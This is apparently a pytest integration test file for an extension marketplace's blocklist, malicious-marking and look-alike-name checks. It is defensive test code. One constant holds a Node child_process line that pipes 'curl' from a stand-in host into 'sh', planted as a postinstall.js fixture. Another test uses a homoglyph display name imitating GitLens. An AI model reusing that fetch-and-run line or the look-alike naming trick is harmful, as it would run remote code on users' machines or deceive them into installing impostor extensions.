"""The blocklist and look-alike names against moto: the ingest refuses a blocked package and a look-alike name
with the reason; ``marketplace scan block-hash`` of a published package (or of a file inside one) marks its
extension malicious in the gallery's control manifest; ``scan unblock`` removes the entry but leaves the extension
blocked."""

from __future__ import annotations

import hashlib
import json

import pytest

from functions.gallery import handler as gallery_handler
from marketplace import cli
from marketplace.catalog import store as catalog
from marketplace.gallery import routes
from marketplace.publishing import store
from marketplace.publishing.scanning import names
from marketplace.search import indexer
from tests import vsix_factory
from tests.integration.events import context, http_event
from tests.integration.test_ingest import Publisher

PAYLOAD = b"require('child_process').exec('curl -s https://payload.example | sh');\n"


def _record(upload_id: str) -> store.UploadRecord:
    record = store.find_upload(upload_id)
    assert record is not None
    return record


def _control_manifest(monkeypatch: pytest.MonkeyPatch) -> dict:
    monkeypatch.setattr(routes, "_control_cache", None)
    event = http_event("GET", "/_apis/public/gallery/control.json", "ANY /_apis/public/gallery/{proxy+}",
                       headers={"host": "mp.example.test"})
    result = gallery_handler.lambda_handler(event, context("gallery"))
    assert result["statusCode"] == 200
    return dict(json.loads(result["body"]))


@pytest.fixture(autouse=True)
def _fresh_popular_cache():
    names.reset()
    yield
    names.reset()


def test_the_ingest_refuses_a_blocked_package_with_the_reason(deployment, capsys):
    data = vsix_factory.vsix_bytes(publisher="somepub", name="bad", version="1.0.0")
    digest = hashlib.sha256(data).hexdigest()
    assert cli.main(["scan", "block-hash", digest, "--reason", "a credential stealer", "--stage", "test"]) == 0
    assert "No published extension matched." in capsys.readouterr().out
    upload_id, _ = Publisher(deployment).upload(data)
    record = _record(upload_id)
    assert record.status == "rejected"
    assert record.reason is not None and "blocklist.package: the package is on this marketplace's blocklist: a " \
                                         "credential stealer" in record.reason
    assert digest not in record.reason
    assert catalog.get_version("somepub.bad", "1.0.0", "universal") is None


def test_the_ingest_refuses_a_lookalike_of_a_popular_extension(deployment):
    Publisher(deployment, "eamodio").upload(vsix_factory.vsix_bytes(
        publisher="eamodio", name="gitlens", package_json_overrides={"displayName": "GitLens"}))
    indexer.rebuild()  # the search snapshot the look-alike check reads its popular extensions from
    names.reset()  # the first upload read the snapshot before it held anything; an ingest would wait 10 minutes
    upload_id, _ = Publisher(deployment, "otherpub").upload(vsix_factory.vsix_bytes(
        publisher="otherpub", name="git-lens", package_json_overrides={"displayName": "Git\u2009L\u0435ns"}))
    record = _record(upload_id)
    assert record.status == "rejected" and record.reason is not None
    assert "name.lookalike: the display name reads like eamodio.gitlens (GitLens)" in record.reason
    # a genuinely different name passes
    ok, _ = Publisher(deployment, "thirdpub").upload(vsix_factory.vsix_bytes(
        publisher="thirdpub", name="rust-tools", package_json_overrides={"displayName": "Rust Tools"}))
    assert _record(ok).status == "published"


def test_block_hash_of_a_published_package_marks_it_malicious_and_unblock_keeps_it(deployment, capsys, monkeypatch):
    data = vsix_factory.vsix_bytes(publisher="somepub", name="miner", version="1.0.0")
    upload_id, _ = Publisher(deployment).upload(data)
    assert _record(upload_id).status == "published"
    assert _control_manifest(monkeypatch)["malicious"] == []

    digest = hashlib.sha256(data).hexdigest()
    assert cli.main(["scan", "block-hash", digest, "--reason", "mines coins", "--stage", "test"]) == 0
    out = capsys.readouterr().out
    assert "somepub.miner 1.0.0 (universal)" in out and "Marked malicious: somepub.miner." in out
    assert _control_manifest(monkeypatch)["malicious"] == ["somepub.miner"]
    entries = [e.as_json() for e in store.audit_entries("somepub")]
    assert any(e["action"] == "extension.block" and e["actor"] == "operator" for e in entries)

    assert cli.main(["scan", "blocklist", "--json", "--stage", "test"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [(b["kind"], b["value"], b["reason"]) for b in listed] == [("package", digest, "mines coins")]

    assert cli.main(["scan", "unblock", "package", digest, "--stage", "test"]) == 0
    assert "stay blocked" in capsys.readouterr().out
    assert store.get_block("package", digest) is None
    assert _control_manifest(monkeypatch)["malicious"] == ["somepub.miner"]  # the extension stays blocked
    assert cli.main(["scan", "unblock", "package", digest, "--stage", "test"]) == 1  # nothing left to remove


def test_block_hash_of_a_file_reads_published_packages_again(deployment, capsys, monkeypatch):
    publisher = Publisher(deployment)
    publisher.upload(vsix_factory.vsix_bytes(publisher="somepub", name="carrier", version="1.0.0",
                                             extra_files={"extension/dist/postinstall.js": PAYLOAD}))
    publisher.upload(vsix_factory.vsix_bytes(publisher="somepub", name="clean", version="1.0.0"))
    digest = hashlib.sha256(PAYLOAD).hexdigest()
    assert cli.main(["scan", "block-hash", digest, "--file", "--reason", "a worm's payload", "--stage", "test"]) == 0
    captured = capsys.readouterr()
    assert "Checked 2 published package(s)." in captured.out and "extension/dist/postinstall.js" in captured.out
    assert "reading 2 published package(s) again" in captured.err
    assert _control_manifest(monkeypatch)["malicious"] == ["somepub.carrier"]
    # and a new package carrying the file is refused
    upload_id, _ = publisher.upload(vsix_factory.vsix_bytes(publisher="somepub", name="carrier2", version="1.0.0",
                                                            extra_files={"extension/x.js": PAYLOAD}))
    record = _record(upload_id)
    assert record.status == "rejected" and "blocklist.file in extension/x.js" in (record.reason or "")


def test_block_extension_blocks_the_published_extension_and_refuses_uploads(deployment, capsys, monkeypatch):
    publisher = Publisher(deployment)
    publisher.upload(vsix_factory.vsix_bytes(publisher="somepub", name="stealer", version="1.0.0"))
    assert cli.main(["scan", "block-extension", "SomePub.Stealer", "--reason", "taken down", "--stage", "test"]) == 0
    assert "Marked malicious: somepub.stealer." in capsys.readouterr().out
    assert _control_manifest(monkeypatch)["malicious"] == ["somepub.stealer"]
    upload_id, _ = publisher.upload(vsix_factory.vsix_bytes(publisher="somepub", name="stealer", version="1.0.1"))
    record = _record(upload_id)
    assert record.status == "rejected" and "blocklist.extension" in (record.reason or "")
    assert "taken down" in (record.reason or "")
    assert cli.main(["scan", "block-extension", "not-an-id", "--reason", "x", "--stage", "test"]) == 1
